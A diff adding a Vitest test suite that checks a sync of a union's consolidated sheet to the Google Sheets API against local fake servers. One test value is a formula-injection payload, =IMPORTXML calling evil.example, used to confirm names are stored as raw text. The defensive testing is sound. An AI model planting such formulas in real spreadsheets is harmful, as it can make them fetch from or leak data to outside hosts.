@@ -1,0 +1,221 @@
+// The Union's consolidated sheet through the Sheets API, checked at the protocol level against a local server:
+// paths, methods, fields, ranges, body shapes, RAW values; one values.batchUpdate per sync, debounced requests.
+import { openCampaign } from "@barometre/functions/campaigns";
+import { saveStructure } from "@barometre/functions/directory";
+import { latestDoc, unionSheetDoc } from "@barometre/functions/layout";
+import { eraseStructure } from "@barometre/functions/structure-data";
+import { requestSheetSync } from "@barometre/functions/union-sheet/request-sync";
+import { sheetsClient } from "@barometre/functions/union-sheet/sheets-client";
+import { type SheetDeps, syncUnionSheet } from "@barometre/functions/union-sheet/sync";
+import {
+  computeIndicators,
+  type DemoStructure,
+  formatIndicatorValue,
+  generateNetwork,
+  INDICATORS,
+  STATUS_LABELS,
+} from "@barometre/shared";
+import type { Firestore } from "firebase-admin/firestore";
+import { OAuth2Client } from "google-auth-library";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import {
+  emulatorFirestore,
+  type FirestoreEmulator,
+  startFirestoreEmulator,
+} from "../../cli/src/stack/firestore-emulator.ts";
+import { localWork } from "../../cli/src/stack/local-deps.ts";
+import { seedLatest, storedRevision } from "./support/network.ts";
+import { type SheetsServer, startSheetsServer } from "./support/sheets-server.ts";
+
+const SHEET = "1UnIoNsHeEt-2018";
+const TOKEN = "ya29.local-test-token";
+const network = generateNetwork({ size: 40, seed: 11 });
+const year = network.year;
+let emulator: FirestoreEmulator;
+let db: Firestore;
+let api: SheetsServer;
+let deps: SheetDeps;
+
+/** A directory name that would run as a formula if the sheet interpreted it. */
+const TRICKY = '=IMPORTXML("http://evil.example";"//a")';
+
+beforeAll(async () => {
+  emulator = await startFirestoreEmulator(`demo-sheet-${process.pid}`);
+  db = emulatorFirestore(emulator);
+  api = await startSheetsServer(SHEET, TOKEN);
+  const auth = new OAuth2Client();
+  auth.setCredentials({ access_token: TOKEN, expiry_date: Date.now() + 3_600_000 });
+  deps = {
+    db,
+    clock: () => new Date(),
+    sheets: await sheetsClient({ rootUrl: api.url, auth }),
+    spreadsheetId: SHEET,
+  };
+  await openCampaign(db, year, {}, "union@pimms.example", new Date());
+  await Promise.all(
+    network.structures.map((s, i) =>
+      saveStructure(
+        db,
+        {
+          code: s.code,
+          name: i === 0 ? TRICKY : s.name,
+          territory: s.territory,
+          emails: ["d@pimms.example"],
+        },
+        new Date(),
+      ),
+    ),
+  );
+  await seedLatest(
+    db,
+    network.structures.map((s) => storedRevision(s.current)),
+  );
+});
+afterAll(async () => {
+  await api.close();
+  emulator.stop();
+});
+beforeEach(() => {
+  api.requests.length = 0;
+});
+
+const valuesWrites = () => api.requests.filter((r) => r.path.endsWith("/values:batchUpdate"));
+const rowOf = (code: string) =>
+  api.tabs.get(`Structures ${year}`)?.values.find((r) => r[0] === code);
+
+describe("syncUnionSheet", () => {
+  it("creates the three tabs once, then writes every row in one RAW values.batchUpdate", async () => {
+    expect(await syncUnionSheet(deps, year)).toBe("written");
+    const [get, layout, values] = api.requests;
+    expect(api.requests).toHaveLength(3);
+    expect(get).toMatchObject({
+      method: "GET",
+      path: `/v4/spreadsheets/${SHEET}`,
+      query: { fields: "sheets.properties(sheetId,title,gridProperties(rowCount,columnCount))" },
+      authorization: `Bearer ${TOKEN}`,
+    });
+    expect(layout).toMatchObject({ method: "POST", path: `/v4/spreadsheets/${SHEET}:batchUpdate` });
+    const added = layout?.body.requests
+      .filter((r: any) => r.addSheet)
+      .map((r: any) => r.addSheet.properties);
+    expect(added.map((p: any) => p.title)).toEqual([
+      `Structures ${year}`,
+      `Réseau ${year}`,
+      `Fragilités ${year}`,
+    ]);
+    for (const p of added) expect(p.gridProperties.frozenRowCount).toBe(1);
+    const formats = layout?.body.requests
+      .filter((r: any) => r.repeatCell?.fields === "userEnteredFormat.numberFormat")
+      .map((r: any) => r.repeatCell.cell.userEnteredFormat.numberFormat.pattern);
+    expect(formats).toContain("0.0%");
+    expect(values).toMatchObject({
+      method: "POST",
+      path: `/v4/spreadsheets/${SHEET}/values:batchUpdate`,
+    });
+    expect(values?.body.valueInputOption).toBe("RAW");
+    const ranges = values?.body.data.map((d: any) => d.range);
+    expect(ranges[0]).toMatch(new RegExp(`^'Structures ${year}'!A1:[A-Z]+41$`));
+    expect(ranges[1]).toMatch(new RegExp(`^'Réseau ${year}'!A1:L\\d+$`));
+    expect(ranges[2]).toMatch(new RegExp(`^'Fragilités ${year}'!A1:F\\d+$`));
+    for (const d of values?.body.data) expect(d.majorDimension).toBe("ROWS");
+  });
+
+  it("writes each structure's latest indicators as numbers with their bands in words, and its name as text", () => {
+    const header = api.tabs.get(`Structures ${year}`)?.values[0] as string[];
+    for (const [i, s] of network.structures.entries()) {
+      const row = rowOf(s.code) as (string | number)[];
+      expect(row[1]).toBe(i === 0 ? TRICKY : s.name);
+      expect(row.slice(2, 4)).toEqual([s.territory, 1]);
+      const indicators = computeIndicators(s.current);
+      for (const def of INDICATORS) {
+        const at = header.indexOf(`${def.number}. ${def.name}`);
+        const { value, status } = indicators[def.key];
+        expect(row[at], `${s.code} ${def.key}`).toEqual(
+          value === null
+            ? "non calculable"
+            : typeof value === "boolean"
+              ? value
+                ? "Oui"
+                : "Non"
+              : value,
+        );
+        const band = header.indexOf(`Bande ${def.number}. ${def.name}`);
+        if (band >= 0) expect(row[band]).toBe(status ? STATUS_LABELS[status] : "");
+      }
+    }
+  });
+
+  it("lists the fragile structures of each indicator, and the network's statistics", () => {
+    const fragile = api.tabs.get(`Fragilités ${year}`)?.values.slice(1) ?? [];
+    const expected = network.structures.flatMap((s) => {
+      const ind = computeIndicators(s.current);
+      return INDICATORS.filter((d) => ind[d.key].status === "red").map((d) => [
+        `${d.number}. ${d.name}`,
+        s.code,
+        formatIndicatorValue(d.key, ind[d.key].value),
+      ]);
+    });
+    expect(expected.length).toBeGreaterThan(0);
+    expect(fragile.map((r) => [r[0], r[1], r[4]]).sort()).toEqual(expected.sort());
+    const network2 = api.tabs.get(`Réseau ${year}`)?.values ?? [];
+    const line = network2.find((r) => r[0] === "3. Taux de formation" && r[1] === "Réseau");
+    expect(line?.slice(2, 4)).toEqual([40, 40]);
+    expect(line?.[6]).toMatch(/^\d+,\d[\u00a0\u202f]%$/);
+  });
+
+  it("calls nothing when nothing changed", async () => {
+    expect(await syncUnionSheet(deps, year)).toBe("unchanged");
+    expect(api.requests).toHaveLength(0);
+  });
+
+  it("drops an erased structure's row at the next sync, blanking the rows no longer used", async () => {
+    const gone = network.structures[5] as DemoStructure;
+    await eraseStructure(db, gone.code);
+    expect((await unionSheetDoc(db, year).get()).get("dirty")).toBe(true);
+    expect(await syncUnionSheet(deps, year)).toBe("written");
+    expect(valuesWrites()).toHaveLength(1);
+    expect(
+      api.requests.filter((r) => r.path.endsWith(":batchUpdate") && !r.path.includes("values")),
+    ).toHaveLength(0);
+    expect(rowOf(gone.code)).toBeUndefined();
+    const data = valuesWrites()[0]?.body.data[0];
+    expect(data.range).toMatch(/!A1:[A-Z]+41$/);
+    expect(data.values[40].every((c: unknown) => c === "")).toBe(true);
+    expect((await unionSheetDoc(db, year).get()).get("dirty")).toBe(false);
+  });
+
+  it("enlarges a tab's grid before writing more rows than it has", async () => {
+    const extra = generateNetwork({ size: 60, seed: 12 }).structures.slice(40);
+    await seedLatest(
+      db,
+      extra.map((s) => storedRevision(s.current)),
+    );
+    expect(await syncUnionSheet(deps, year)).toBe("written");
+    const layout = api.requests.find((r) => r.path.endsWith(`${SHEET}:batchUpdate`));
+    const grow = layout?.body.requests.find(
+      (r: any) => r.updateSheetProperties,
+    )?.updateSheetProperties;
+    expect(grow).toMatchObject({
+      properties: { gridProperties: { rowCount: 60 } },
+      fields: "gridProperties.rowCount,gridProperties.columnCount",
+    });
+    expect(rowOf(extra[0]?.code as string)).toBeDefined();
+  });
+
+  it("runs once for all the revisions of a 30-second window", async () => {
+    await latestDoc(db, year, (network.structures[1] as DemoStructure).code).update({ number: 2 });
+    const work = localWork(
+      {
+        db,
+        unionSheet: { spreadsheetId: SHEET, sheets: deps.sheets },
+        clock: () => new Date(Date.UTC(2019, 4, 1, 8, 0, 10)),
+        queue: { delayMs: () => 0 },
+      },
+      { audiences: [], maxBodyBytes: 0 },
+    );
+    for (let k = 0; k < 5; k++) await requestSheetSync(work.deps, year);
+    await work.queues.idle();
+    expect(work.queues.sheetSync.counts.completed).toBe(1);
+    expect(valuesWrites()).toHaveLength(1);
+  });
+});
